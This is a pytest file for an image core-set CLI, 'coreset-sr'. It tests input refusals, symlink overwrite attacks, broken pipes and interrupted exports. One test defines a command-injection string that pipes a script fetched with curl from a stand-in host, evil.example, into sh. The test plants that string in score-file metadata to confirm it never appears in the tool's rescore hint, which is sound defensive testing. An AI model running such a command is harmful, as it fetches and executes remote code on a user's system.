    Case("select-out-is-the-scores-file",
         lambda w, t: (["select", _kept(t, w), "--out", t / "keep" / "s.safetensors", "--no-progress"], [t / "keep"]),
         2, ("refusing to write", "which is the scores file")),
    Case("plot-out-inside-the-scored-folder", lambda w, t: ["plot", w.sub, "--out", w.data / "fig.png"], 2,
         ("refusing to write", "fig.png", "inside the scored folder", "choose an --out outside it")),
    Case("select-out-inside-the-scored-folder",
         lambda w, t: ["select", w.sub, "--out", w.data / "keep.txt", "--no-progress"], 2,
         ("refusing to write", "keep.txt", "inside the scored folder")),
    Case("export-meta-info-over-the-scores-file",
         lambda w, t: (w.export(t / "keep", scores=_kept(t, w, "meta_info.txt")), [t / "keep"]), 2,
         ("refusing to write", "meta_info.txt", "which is the scores file")),
    Case("export-out-empty", lambda w, t: w.export(""), 2, ("argument --out", "empty path", "working folder")),
    Case("score-out-empty", lambda w, t: _score_sobel(w, t)[:-1] + [""], 2, ("argument --out", "empty path")),
    Case("select-out-empty", lambda w, t: ["select", w.sub, "--out", ""], 2, ("argument --out", "empty path")),
    Case("plot-out-blank", lambda w, t: ["plot", w.sub, "--out", " "], 2, ("argument --out", "empty path")),
    Case("export-scores-empty", lambda w, t: ["export", w.data, "--scores", "", "--out", t / "core"], 2,
         ("argument --scores", "empty path")),
]

if _cuda_missing():
    CASES.append(Case("score-device-cuda-without-gpu",
                      lambda w, t: ["score", w.data, "--device", "cuda", "--out", t / "s.safetensors"], 2,
                      ("--device cuda", "CUDA is not available", "--device cpu")))


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_cli_bad_input(case, ws, tmp_path, capsys, monkeypatch, untouched):
    argv = case.argv(ws, tmp_path)
    argv, guard = argv if isinstance(argv, tuple) else (argv, [])
    capsys.readouterr()
    with untouched(ws.data, ws.lr, *guard):
        if case.patch is not None:
            case.patch(monkeypatch)
        code, _, err = call(capsys, *argv)
        monkeypatch.undo()
    assert code == case.code, err
    line = one_error_line(err, case.prefix)
    for n in case.needles:
        assert n in line, f"{n!r} not in {line!r}"
    if case.check is not None:
        case.check(ws, tmp_path)


def test_the_catalogue_is_large_enough():
    assert len(CASES) >= 30 and len({c.id for c in CASES}) == len(CASES)


# --------------------------------------------------------------------------- the two attacks, in detail


@pytest.mark.parametrize("link, target", [("copy", "data"), ("symlink", "lr"), ("symlink", "data"),
                                          ("hard", "data")])
def test_out_lr_symlink_attack_writes_nothing_anywhere(ws, tmp_path, capsys, untouched, link, target):
    """The two bugs of issue 10: ``--out/lr`` a symlink into HR or LR.

    Before the fix ``--link copy`` overwrote the HR images with the LR ones (exit 0) and
    ``--link symlink`` turned an LR image into a symlink to itself. Now: exit 2 before any file
    is written, the source folders byte-identical, and the same export into a clean folder works.
    """
    out = _out_with_lr_link(tmp_path, getattr(ws, target))
    with untouched(ws.data, ws.lr):
        code, _, err = call(capsys, *ws.export_lr(out, link))
    assert code == 2
    assert "refusing to write" in one_error_line(err)
    assert sorted(p.name for p in out.iterdir()) == ["lr"]  # not even meta_info.txt
    for p in list(ws.data.iterdir()) + list(ws.lr.iterdir()):
        assert p.is_file() and not p.is_symlink()
    clean = tmp_path / "clean"
    with untouched(ws.data, ws.lr):
        code, stdout, err = call(capsys, *ws.export_lr(clean, link))
    assert code == 0, err
    kept = (clean / "meta_info.txt").read_text().split()
    assert kept and {p.name for p in (clean / "lr").iterdir()} == set(kept)


def test_symlinks_left_by_an_earlier_export_are_replaced_not_followed(ws, tmp_path, capsys, untouched):
    """``--link symlink`` then ``--link copy`` into the same folder: the links become copies; DATA intact."""
    out = tmp_path / "core"
    assert call(capsys, *ws.export_lr(out, "symlink"))[0] == 0
    linked = [p for p in (out / "hr").iterdir() if p.is_symlink()]
    assert linked
    with untouched(ws.data, ws.lr):
        code, stdout, err = call(capsys, *ws.export_lr(out, "copy"))
    assert code == 0, err
    for p in linked:
        assert not p.is_symlink() and p.read_bytes() == (ws.data / p.name).read_bytes()


# --------------------------------------------------------------------------- subprocesses: no traceback


def test_subprocess_symlink_attack_is_one_line(ws, tmp_path, untouched):
    out = _out_with_lr_link(tmp_path, ws.data)
    with untouched(ws.data, ws.lr):
        r = run(*ws.export_lr(out, "copy"))
    assert r.returncode == 2
    assert "resolves to" in one_error_line(r.stderr)


def test_subprocess_fifo_scores_does_not_hang(tmp_path):
    fifo = _fifo(tmp_path)
    r = run("info", fifo, timeout=60)  # reading a FIFO would block forever
    assert r.returncode == 1 and "FIFO" in one_error_line(r.stderr)


@pytest.mark.skipif(not _cuda_missing(), reason="this machine has CUDA")
def test_subprocess_cuda_without_gpu(ws, tmp_path):
    r = run("score", ws.data, "--device", "cuda", "--out", tmp_path / "s.safetensors")
    assert r.returncode == 2 and "CUDA is not available" in one_error_line(r.stderr)
    assert not (tmp_path / "s.safetensors").exists()


def _piped_into_head(argv, redirect: str) -> subprocess.CompletedProcess:
    """``coreset-sr ARGV REDIRECT | head -1`` in bash; the last stdout line is ``status=<coreset-sr's exit>``."""
    cmd = " ".join(map(str, [sys.executable, "-m", "coreset_sampler", *argv]))
    script = f"set -o pipefail; {cmd} {redirect} | head -1; echo \"status=${{PIPESTATUS[0]}}\""
    return subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=120,
                          env=dict(os.environ, OMP_NUM_THREADS="1", PYTHONWARNINGS="ignore"))


def test_export_piped_into_head_ends_quietly(ws, tmp_path, untouched):
    """``coreset-sr export ... | head -1``: the first line arrives, no BrokenPipeError, exit 0, and the
    export is complete (the closed reader only discards the rest of the report)."""
    out = tmp_path / "core"
    with untouched(ws.data, ws.lr):
        r = _piped_into_head(ws.export(out), f"2>{tmp_path / 'err'}")
    lines = r.stdout.splitlines()
    assert lines[0].startswith("core-set: kept "), r.stdout
    assert lines[-1] == "status=0", lines
    err = (tmp_path / "err").read_text()
    assert "Traceback" not in err and "BrokenPipe" not in err and "Exception ignored" not in err, err
    assert (out / "meta_info.txt").is_file(), (r.stdout, err)


def test_export_with_progress_bars_piped_into_head_ends_quietly(ws, tmp_path, untouched):
    """``... 2>&1 | head -1``: progress bars and warnings on the closed pipe do not stop the export either."""
    out = tmp_path / "core"
    with untouched(ws.data, ws.lr):
        r = _piped_into_head(ws.export(out)[:-1], "2>&1")  # with progress bars
    lines = r.stdout.splitlines()
    assert len(lines) == 2 and lines[-1] == "status=0", r.stdout + r.stderr
    assert len((out / "meta_info.txt").read_text().split()) == 12


@pytest.mark.parametrize("argv", [["info", "{sub}"], ["--help"], ["select", "{sub}", "--out", "{tmp}/keep.txt"]])
def test_closed_reader_output_is_dropped_quietly(ws, tmp_path, argv):
    """stdout's reader is gone before the first write: the command still does its work, exit 0, stderr clean."""
    r_fd, w_fd = os.pipe()
    os.close(r_fd)  # every write to w_fd now fails with EPIPE
    try:
        p = subprocess.run([sys.executable, "-m", "coreset_sampler", *[a.format(sub=ws.sub, tmp=tmp_path) for a in argv]],
                           stdout=w_fd, stderr=subprocess.PIPE, text=True, timeout=120,
                           env=dict(os.environ, PYTHONWARNINGS="ignore"))
    finally:
        os.close(w_fd)
    assert p.returncode == 0, p.stderr
    assert p.stderr == "", p.stderr
    if "--out" in argv:  # the work was done although nobody read the report
        assert len((tmp_path / "keep.txt").read_text().split()) == 12


def test_temp_files_of_a_killed_export_are_removed_by_the_next(ws, tmp_path, capsys, untouched):
    """SIGKILL between writing a temp file and renaming it; the next export cleans up and says so."""
    out = tmp_path / "core"
    killer = textwrap.dedent(f"""
        import os, signal, sys
        import coreset_sampler.export as e
        real = os.replace
        n = [0]
        def replace(a, b):
            n[0] += 1
            if n[0] == 3:
                os.kill(os.getpid(), signal.SIGKILL)  # dies with .name.PID.xxxx.tmp on disk
            real(a, b)
        e.os = type(os)("os_proxy")
        e.os.__dict__.update(os.__dict__)
        e.os.replace = replace
        from coreset_sampler.cli import main
        sys.exit(main({[str(a) for a in ws.export(out)]!r}))
    """)
    with untouched(ws.data, ws.lr):
        r = subprocess.run([sys.executable, "-c", killer], capture_output=True, text=True, timeout=120,
                           env=dict(os.environ, OMP_NUM_THREADS="1"))
    assert r.returncode == -signal.SIGKILL, r.stderr
    # the export stages every file before renaming any (issue 19): the kill leaves the ones not yet renamed
    temps = [p.name for p in out.rglob("*") if p.name.endswith(".tmp")]
    assert temps and all(t.startswith(".") for t in temps), temps
    with untouched(ws.data, ws.lr):
        code, stdout, err = call(capsys, *ws.export(out))
    assert code == 0, err
    assert f"removed {len(temps)} temporary file(s) left by an interrupted export" in stdout
    assert any(t in stdout for t in temps)
    assert not [p for p in out.rglob("*") if p.name.endswith(".tmp")]
    assert len((out / "meta_info.txt").read_text().split()) == len([p for p in (out / "hr").glob("*.png")])


# --------------------------------------------------------------------------- rescoring on purpose


def test_rescore_replaces_scores_of_other_settings_and_ignores_a_foreign_checkpoint(ws, tmp_path, capsys,
                                                                                    untouched):
    s = tmp_path / "s.safetensors"
    shutil.copy(ws.sub, s)
    # a checkpoint of some other run (ours by its header; a file that is not is refused, see the catalogue's
    # score-rescore-over-a-foreign-checkpoint)
    from safetensors.numpy import save_file

    from coreset_sampler.engine import CHECKPOINT_FORMAT

    save_file({"values": np.zeros(3, np.float32)}, str(tmp_path / "s.safetensors.partial"),
              metadata={"format": CHECKPOINT_FORMAT, "format_version": "999"})
    argv = ["score", ws.data, "--scorer", "sobel", "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress",
            "--out", s]
    with untouched(ws.data, ws.lr):
        code, _, err = call(capsys, *argv)
        assert code == 2 and "--rescore" in one_error_line(err)
        code, out, err = call(capsys, *argv, "--rescore")
    assert code == 0, err
    new = Scores.load(s)
    assert new.metadata["provenance"]["scorer"] == "sobel" and new.keys == Scores.load(ws.sub).keys
    assert new.metadata["command"].startswith("coreset-sr score ") and new.metadata["command"].endswith("--rescore")
    assert not (tmp_path / "s.safetensors.partial").exists()
    # same settings again: no --rescore needed (the scores are recomputed, identical)
    code, _, err = call(capsys, *argv)
    assert code == 0, err
    assert np.array_equal(Scores.load(s).values, new.values)


def test_stale_export_names_the_command_that_rescores(ws, tmp_path, capsys):
    """The refusal's fix is the recorded scoring command plus --rescore; running it makes export work."""
    data, s, _ = _scored_copy(ws, tmp_path)
    _repaint(data / "flat.png")
    code, _, err = call(capsys, "export", data, "--scores", s, "--out", tmp_path / "core", "--no-progress")
    line = one_error_line(err)
    assert code == 2 and "1 source image(s) changed since scoring: flat.png (" in line
    cmd = line.split("rescore with: ", 1)[1]
    assert cmd.startswith("coreset-sr score ") and cmd.endswith(" --rescore")
    import shlex

    assert main(shlex.split(cmd)[1:]) == 0
    code, out, err = call(capsys, "export", data, "--scores", s, "--out", tmp_path / "core", "--no-progress")
    assert code == 0, err
    assert "exported " in out


HOSTILE = "; curl -s http://evil.example/x.sh | sh; true"


@pytest.mark.parametrize("cmd", ["export", "select", "plot"])
def test_rescore_hint_is_ours_never_the_files_command(cmd, ws, tmp_path, capsys, untouched):
    """Issue 19 item 9: the suggested fix is built from this run's arguments and values we vouch for, quoted
    with shlex; a shared file's recorded ``command`` (or a scorer path in it) never reaches the message."""
    import shlex

    data, s, _ = _scored_copy(ws, tmp_path)
    hostile_path = tmp_path / "my scores.safetensors"  # a path that needs quoting
    scores = Scores.load(s)
    md = dict(scores.metadata)
    md["command"] = f"coreset-sr score {data} --scorer interpolation --out {hostile_path} {HOSTILE}"
    md["provenance"] = {**md["provenance"], "scorer": f"m.pth{HOSTILE}"}
    Scores(scores.values, keys=scores.keys, metadata=md).save(hostile_path)
    _repaint(data / "noise.png")
    argv = {"export": ["export", data, "--scores", hostile_path, "--out", tmp_path / "core", "--no-progress"],
            "select": ["select", hostile_path, "--no-progress"],
            "plot": ["plot", hostile_path, "--grid", data, "--out", tmp_path / "g.png", "--no-progress"]}[cmd]
    with untouched(data):
        code, _, err = call(capsys, *argv)
    line = one_error_line(err)
    assert code == 2 and "changed since scoring" in line
    assert "curl" not in line and "evil.example" not in line and "| sh" not in line
    hint = line.split("rescore with: ", 1)[1]
    words = shlex.split(hint)
    assert words[:2] == ["coreset-sr", "score"] and words[-3:] == ["--out", str(hostile_path), "--rescore"]
    assert words[2] == (str(data) if cmd != "select" else "DATA")  # the folder this run was given, else a placeholder
    assert words[words.index("--scorer") + 1] == "MODEL"  # a scorer that is not a built-in name is not repeated


def test_cli_records_its_scorer_spec(ws, tmp_path):
    md = Scores.load(ws.whole_lr).metadata
    assert md["provenance"]["scorer"] == "interpolation" and md["provenance"]["degradation"] == "lr_folder"
    assert set(md["provenance"]["lr_sources"]) == {f"{n}.png" for n in NAMES}
    s = tmp_path / "b.safetensors"
    assert main(["score", str(ws.data), "--scorer", "BICUBIC", "--crop", str(CROP), "--step", str(STEP),
                 "--workers", "0", "--no-progress", "--out", str(s)]) == 0
    assert Scores.load(s).metadata["provenance"]["scorer"] == "interpolation"


def test_on_error_skip_works_in_the_default_subimage_mode(ws, tmp_path, capsys, untouched):
    """Item 3: ``--on-error skip`` without ``--crop 0`` (today the images were decoded while the
    dataset was built and the flag was ignored). Without the flag: exit 1 naming the file and the
    flag; with it: exit 0, the broken image's sub-images recorded as failed, the others scored."""
    data = tmp_path / "d"
    shutil.copytree(ws.data, data)
    (data / "zz_broken.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"not really a png" * 20)
    out = tmp_path / "s.safetensors"
    argv = ["score", data, "--scorer", "sobel", "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress",
            "--out", out]
    with untouched(data, ws.data):
        code, _, err = call(capsys, *argv)
        assert code == 1 and not out.exists()
        line = one_error_line(err)
        assert "zz_broken.png" in line and "--on-error skip" in line
        code, stdout, err = call(capsys, *argv, "--on-error", "skip")
    assert code == 0, err
    s = Scores.load(out)
    bad = [k for k in s.keys if k.startswith("zz_broken")]
    assert bad and {s.keys.index(k) for k in bad} == set(s.failed)
    assert np.isfinite(np.delete(s.values, sorted(s.failed))).all()
    assert len(s.keys) - len(bad) == len(Scores.load(ws.sub).keys)


# --------------------------------------------------------------------------- --sources, the happy path


def test_score_sources_scores_a_subimage_folder_whole_image(ws, tmp_path, capsys, untouched):
    """``score SUB --sources SRC``: whole-image scores keyed by the sub-image files, the same numbers
    as the library's SubImageFolder; select and export read the file; --rescore switches granularity."""
    from coreset_sampler.scorers import LossScorer
    from coreset_sampler.whole_image import SubImageFolder

    sub = _subs(tmp_path, ws)
    out = tmp_path / "s.safetensors"
    # --device cpu: the reference below is computed on the CPU; the comparison is exact
    argv = ["score", sub, "--sources", ws.data, "--crop", CROP, "--step", STEP, "--workers", 0, "--no-progress",
            "--device", "cpu", "--out", out]
    with untouched(ws.data, sub):
        code, stdout, err = call(capsys, *argv)
        assert code == 0, err
        assert "whole-image through 4 source image(s)" in stdout
        s = Scores.load(out)
        assert s.keys == sorted(p.stem for p in sub.iterdir()) and len(s) == 24
        prov = s.metadata["provenance"]
        assert prov["granularity"] == "whole_image" and prov["traced_from"]["step"] == STEP
        assert set(prov["traced_from"]["sources"]) == {f"{n}.png" for n in NAMES}
        ref = LossScorer.pretrained("srcnn", 2, num_workers=0, progress=False, device="cpu").score(
            SubImageFolder(sub, ws.data, crop=CROP, step=STEP, scale=2))
        np.testing.assert_array_equal(s.values, ref.values)
        # rerunning the same command is accepted (same granularity and grid)
        assert call(capsys, *argv)[0] == 0
        code, _, err = call(capsys, "select", out, "--ratio", 0.5, "--skip-top", 0, "--out", tmp_path / "keep.txt")
        assert code == 0, err
        assert set((tmp_path / "keep.txt").read_text().split()) == {s.keys[i] for i in np.argsort(-s.values)[:12]}
        code, _, err = call(capsys, "export", sub, "--scores", out, "--ratio", 0.5, "--skip-top", 0, "--out",
                            tmp_path / "core", "--no-progress")
        assert code == 0, err
        assert len(list((tmp_path / "core" / "hr").glob("*.png"))) == 12
        # --per-crop into it needs --rescore, then the file is per crop
        assert call(capsys, *argv, "--per-crop")[0] == 2
        assert call(capsys, *argv, "--per-crop", "--rescore")[0] == 0
        from coreset_sampler.provenance import recorded_granularity

        assert recorded_granularity(Scores.load(out)) == "per_crop"


# --------------------------------------------------------------------------- issue 19: failed samples stay out


def _truncated_png(src: Path, dst: Path) -> Path:
    """``dst``: ``src``'s PNG cut in its pixel data (the header, so the size, still reads)."""
    data = src.read_bytes()
    dst.write_bytes(data[:len(data) * 2 // 3])
    return dst


def test_export_after_on_error_skip_leaves_failed_samples_out(ws, tmp_path, capsys, untouched):
    """Issue 19 item 5/6: ``score --on-error skip`` with a truncated PNG, then ``export --ratio 1 --skip-top 0``:
    the export finishes (the failed crops are neither exported nor decoded to measure the bytes) and says so.
    Today it wrote the kept PNGs, then crashed on the truncated file while measuring: no meta_info.txt, exit 1."""
    data = tmp_path / "d"
    shutil.copytree(ws.data, data)
    _truncated_png(ws.data / "noise.png", data / "zz_trunc.png")
    s, core = tmp_path / "s.safetensors", tmp_path / "core"
    with untouched(data):
        code, _, err = call(capsys, "score", data, "--scorer", "sobel", "--crop", CROP, "--step", STEP, "--workers", 0,
                            "--no-progress", "--on-error", "skip", "--out", s)
        assert code == 0, err
        scores = Scores.load(s)
        bad = {i for i, k in enumerate(scores.keys) if k.startswith("zz_trunc")}
        assert bad and bad == set(scores.failed)
        code, stdout, err = call(capsys, "export", data, "--scores", s, "--ratio", 1, "--skip-top", 0, "--out", core,
                                 "--no-progress")
    assert code == 0, err
    names = (core / "meta_info.txt").read_text().split()
    assert sorted(names) == sorted(f"{k}.png" for i, k in enumerate(scores.keys) if i not in bad)
    assert sorted(p.name for p in core.iterdir()) == ["hr", "meta_info.txt"]
    assert sorted(p.name for p in (core / "hr").iterdir()) == sorted(names)
    assert f"failed         {len(bad)} sample(s) that could not be scored: not exported" in stdout


def test_export_that_fails_half_way_writes_nothing(ws, tmp_path, capsys, monkeypatch, untouched):
    """Issue 19 item 6: an export that stops on an unreadable image (here: the fourth PNG cannot be made)
    leaves its output folder as it was: no PNG renamed into place, no meta_info.txt, no temporary file."""
    import coreset_sampler.export as export

    real, calls = export._png_bytes, []

    def flaky(im):
        calls.append(1)
        if len(calls) == 4:
            raise export.CoresetValueError("cannot read image DATA/noise.png: image file is truncated")
        return real(im)

    monkeypatch.setattr(export, "_png_bytes", flaky)
    core = tmp_path / "core"
    with untouched(ws.data):
        code, _, err = call(capsys, *ws.export(core, "--ratio", 1, "--skip-top", 0))
    assert code == 1 and "noise.png" in one_error_line(err)
    assert not core.exists()  # not even the folders it would have created


def test_export_coreset_refuses_a_failed_sample_before_writing(ws, tmp_path, untouched):
    """Issue 19 item 6 (library): a failed sample among the indices is refused by name, nothing written."""
    from coreset_sampler import export_coreset
    from coreset_sampler.data import SubImageDataset

    ds = SubImageDataset(ws.data, crop=CROP, step=STEP, scale=2, progress=False)
    core = tmp_path / "core"
    with untouched(ws.data), pytest.raises(ValueError, match=rf"{ds.keys[2]}.*could not be scored \(OSError: x\)"):
        export_coreset(ds, [0, 2], core, progress=False, failed={2: "OSError: x"})
    assert not core.exists()
    report = export_coreset(ds, [0, 1], core, progress=False, failed=[2])
    assert report.failed == 1 and report.files == [f"{ds.keys[0]}.png", f"{ds.keys[1]}.png"]


# --------------------------------------------------------------------------- issue 19: the geometry told


def test_score_sources_refuses_a_step_the_subimages_were_not_cut_with(ws, tmp_path, capsys, untouched):
    """Issue 19 item 5: sub-images cut with step 16, scored with ``--step 12``: every crop number fits the
    step-12 grid and every file is 32x32, so it used to exit 0 with the same keys and wrong scores. Now:
    exit 2, one line naming both steps, nothing written; the right step scores."""
    from coreset_sampler.data import extract_subimages

    sub, out = tmp_path / "sub", tmp_path / "s.safetensors"
    extract_subimages(ws.data, sub, crop=CROP, step=16, progress=False)
    argv = ["score", sub, "--sources", ws.data, "--crop", CROP, "--workers", 0, "--no-progress", "--device", "cpu",
            "--out", out]
    with untouched(ws.data, sub):
        code, _, err = call(capsys, *argv, "--step", 12)
        assert code == 2, err
        line = one_error_line(err)
        assert "cut with step 16, not step 12" in line and "sub_s0" not in line and "_s0" in line
        assert not out.exists() and not list(tmp_path.glob("*.partial"))
        code, _, err = call(capsys, *argv, "--step", 16)
    assert code == 0, err
